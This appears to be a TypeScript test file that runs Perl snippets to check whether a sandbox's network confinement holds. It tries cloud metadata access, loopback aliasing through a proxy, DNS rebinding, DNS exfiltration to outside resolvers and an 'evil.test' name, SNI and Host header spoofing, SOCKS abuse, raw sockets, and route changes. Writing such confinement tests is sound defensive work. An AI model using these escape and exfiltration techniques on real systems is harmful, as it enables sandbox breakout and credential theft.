/** Attacks of a confined program on the walls around its network. Each is Perl, which can make any call and is in Debian. */
import { networkInterfaces } from 'node:os'
import { hostResolvers } from './network-world.ts'

export interface NetworkAttack {
  readonly title: string
  /** True is a breach. Sees the functions of `TOOLS`. */
  readonly attempt: string
}

/** Tells what came back, as text; an empty string means that nothing did. */
const TOOLS = String.raw`
use IO::Socket::IP; use Socket; use IO::Select; $SIG{PIPE} = 'IGNORE'; $| = 1;
our ($https, $http, $secret) = @ENV{qw(HTTPS_PORT HTTP_PORT SECRET_PORT)};
sub reach { my ($host, $port) = @_; IO::Socket::IP->new(PeerHost => $host, PeerPort => $port, Type => SOCK_STREAM, Timeout => 2) }
sub hear { my ($s, $enough) = @_; my ($all, $wait) = ('', IO::Select->new($s));
  while ($wait->can_read(2)) { sysread($s, my $part, 65536) or last; $all .= $part; last if $enough && $all =~ $enough } $all }
sub talk { my ($host, $port, $bytes) = @_; my $s = reach($host, $port) or return ''; syswrite $s, $bytes; hear($s) }
sub get { my ($host, $port) = @_; "GET / HTTP/1.1\r\nHost: $host:$port\r\nConnection: close\r\n\r\n" }
sub absolute { my ($host, $port) = @_; "GET http://$host:$port/ HTTP/1.1\r\nHost: $host:$port\r\nConnection: close\r\n\r\n" }
sub tunnel { my ($host, $port) = @_; my $s = reach('127.0.0.1', 3128) or return; syswrite $s, "CONNECT $host:$port HTTP/1.1\r\nHost: $host:$port\r\n\r\n";
  hear($s, qr/\r\n\r\n/) =~ / 200 / ? $s : undef }
sub socks { my ($command, $type, $port) = @_; my $s = reach('127.0.0.1', 3128) or return; syswrite $s, "\x05\x01\x00"; hear($s, qr/\x05\x00/);
  syswrite $s, pack('C3', 5, $command, 0) . $type . pack('n', $port); my $reply = hear($s, qr/^\x05.{9}/s); length $reply && substr($reply, 1, 1) eq "\0" ? $s : undef }
sub named { pack('CC/a', 3, shift) }
sub through { my ($s, $bytes) = @_; return '' unless $s; syswrite $s, $bytes; hear($s) }
sub proxied { my ($host, $port) = @_; join '', through(tunnel($host, $port), get($host, $port)), through(socks(1, named($host), $port), get($host, $port)),
  talk('127.0.0.1', 3128, absolute($host, $port)) }
sub got { $_[0] =~ /hello from the host|secret|BEGIN CERTIFICATE/ }
sub standin { my $address = gethostbyname(shift); $address ? inet_ntoa($address) : undef }
sub openssl { -x '/usr/bin/openssl' or die 'no openssl'; my $line = shift; scalar qx(/usr/bin/openssl s_client $line </dev/null 2>&1) }
`

const OWN_ADDRESSES = Object.values(networkInterfaces())
  .flatMap((addresses = []) => addresses)
  .filter(({ internal, family }) => !internal && family === 'IPv4')
  .map(({ address }) => address)

const list = (values: readonly string[]) => `(${values.map((value) => `'${value}'`).join(', ')})`

const LOOPBACK = [
  ...[
    '127.0.0.1',
    'localhost',
    '0.0.0.0',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '127.1',
    '2130706433',
    '0x7f.1',
    '0177.0.0.1',
  ],
  ...[
    'open.test@127.0.0.1',
    '127.0.0.1#.open.test',
    '127.0.0.1?.wild.test',
    '127.0.0.1%00.wild.test',
    'open.test:80@localhost',
  ],
]

// biome-ignore format: one attack a row
export const NETWORK_ATTACKS: readonly NetworkAttack[] = [
  { title: 'asks the metadata service of a cloud directly', attempt: `reach('169.254.169.254', 80)` },
  { title: 'asks the metadata service through the proxy', attempt: `proxied('169.254.169.254', 80) =~ /^HTTP\\S+ 2/m` },
  { title: 'asks the metadata service by a name that a rule allows', attempt: `proxied('metadata.test', 80) =~ /^HTTP\\S+ 2/m` },
  { title: 'connects to a listener of the host', attempt: `got talk('127.0.0.1', $secret, get('127.0.0.1', $secret)) or got talk('127.0.0.1', $http, get('open.test', $http))` },
  { title: 'names loopback to the proxy in other ways', attempt: `grep { my $host = $_; grep { got proxied($host, $_) } $secret, $http } ${list(LOOPBACK)}` },
  { title: 'hides the end of a name behind NUL, space and line ends', attempt: `grep { my $tail = $_; grep { got through(socks(1, named("127.0.0.1$tail.wild.test"), $_), get('a.wild.test', $_)) } $secret, $http } "\\0", ' ', "\\r\\n", "\\t"` },
  { title: 'gives loopback to SOCKS as a number', attempt: `got through(socks(1, pack('CC4', 1, 127, 0, 0, 1), $http), get('open.test', $http)) or got through(socks(1, pack('Ca16', 4, Socket::inet_pton(AF_INET6, '::1')), $http), get('open.test', $http))` },
  { title: 'uses an allowed name that resolves to loopback', attempt: `got proxied('rebinding.test', $http) or (standin('rebinding.test') and got talk(standin('rebinding.test'), $http, get('rebinding.test', $http)))` },
  { title: 'uses a name with a good and a bad address', attempt: `got proxied('mixed.test', $http)` },
  { title: 'uses a name with a mapped address', attempt: `got proxied('mapped.test', $http)` },
  { title: 'connects to an address of the host in its own network', attempt: `grep { reach($_, $secret) or reach($_, 22) or got proxied($_, $secret) } ${list([...OWN_ADDRESSES, '10.0.0.1', '192.168.0.1'])}` },
  { title: 'connects over IPv6', attempt: `got talk('::1', $secret, 'x') or reach('2001:db8::1', 443) or reach('fe80::1', 443) or reach('2606:4700:4700::1111', 443)` },
  { title: 'asks name servers outside', attempt: `grep { my $s = IO::Socket::IP->new(PeerHost => $_, PeerPort => 53, Type => SOCK_DGRAM); $s && $s->send(pack('n6 (C/a)2 C n2', 7, 256, 1, 0, 0, 0, 'exfil', 'test', 0, 1, 1)) && hear($s) ne '' } ${list([...hostResolvers().filter((address) => address !== '127.0.0.1'), '8.8.8.8'])}` },
  { title: 'sends datagrams to the host', attempt: `my $s = IO::Socket::IP->new(PeerHost => '127.0.0.1', PeerPort => $ENV{DATAGRAM_PORT}, Type => SOCK_DGRAM); $s->send('x') for 1 .. 3; 0` },
  { title: 'has a name looked up that no rule allows', attempt: `standin('stolen-key-0451.evil.test') or got proxied('stolen-key-0451.evil.test', $http)` },
  { title: 'asks for another port of an allowed host', attempt: `got proxied('open.test', $secret) or (standin('open.test') and reach(standin('open.test'), $secret))` },
  { title: 'shows TLS another name than the proxy', attempt: `grep { got openssl("-proxy 127.0.0.1:3128 -connect open.test:$https $_") } '-servername other.test', '-noservername', '-servername evil.test'` },
  { title: 'shows TLS another name than the resolver', attempt: `my $address = standin('open.test'); $address and grep { got openssl("-connect $address:$https $_") } '-servername other.test', '-noservername'` },
  { title: 'speaks something else through a tunnel for TLS', attempt: `got through(tunnel('open.test', $https), "SSH-2.0-x\\r\\n") or (standin('open.test') and got talk(standin('open.test'), $https, "SSH-2.0-x\\r\\n"))` },
  { title: 'names another host in the Host header', attempt: `grep { got talk('127.0.0.1', 3128, "GET http://open.test:$http/ HTTP/1.1\\r\\n$_\\r\\nConnection: close\\r\\n\\r\\n") } 'Host: other.test', "Host: open.test:$http\\r\\nHost: other.test", "Host: evil.test:$http"` },
  { title: 'connects to an address that stands for no name', attempt: `got talk('198.18.77.77', $http, get('open.test', $http)) or got talk('198.19.255.254', $http, get('open.test', $http))` },
  { title: 'opens an abstract socket of the host', attempt: `socket(my $s, AF_UNIX, SOCK_STREAM, 0) and connect($s, pack_sockaddr_un("\\0$ENV{ABSTRACT}"))` },
  { title: 'relays CONNECT through a process of its own', attempt: `my $l = IO::Socket::IP->new(Listen => 1, LocalHost => '127.0.0.1', Type => SOCK_STREAM); if (!fork) { my $c = $l->accept; sysread($c, my $head, 9999); my $s = reach('127.0.0.1', 3128); syswrite $s, $head; syswrite $c, hear($s); exit } talk('127.0.0.1', $l->sockport, "CONNECT 127.0.0.1:$secret HTTP/1.1\\r\\n\\r\\n") =~ / 200 /` },
  { title: 'asks SOCKS to listen or to carry datagrams', attempt: `socks(2, named('open.test'), $http) or socks(3, named('open.test'), $http)` },
  { title: 'opens raw and packet sockets', attempt: `socket(my $r, AF_INET, SOCK_RAW, 255) or socket(my $i, AF_INET, SOCK_RAW, 1) or socket(my $p, 17, SOCK_RAW, 0)` },
  { title: 'adds an interface, an address or a route', attempt: `grep { -x '/usr/bin/ip' and system("/usr/bin/ip $_ >/dev/null 2>&1") == 0 } 'link add d0 type dummy', 'address add 10.9.9.9/8 dev lo', 'route add default dev lo', 'route del local 198.18.0.0/15 dev lo'` },
  { title: 'finds an interface other than loopback that is up', attempt: `open my $f, '<', '/proc/net/route' or die; my @routes = <$f>; open my $d, '<', '/proc/net/dev' or die; my @devices = grep { /:/ && !/^\\s*lo:/ } <$d>; @routes > 1 or @devices > 0` },
  { title: 'listens for other sandboxes of the host', attempt: `my $l = IO::Socket::IP->new(Listen => 1, LocalHost => '0.0.0.0', LocalPort => 7777, Type => SOCK_STREAM); IO::Select->new($l)->can_read(0.3)` },
]

/** The command line of an attack: its last line says how it went. */
export function attackLine(attempt: string): readonly string[] {
  return ['-e', `${TOOLS}\nprint((do { ${attempt} }) ? "breach\\n" : "held\\n")`]
}
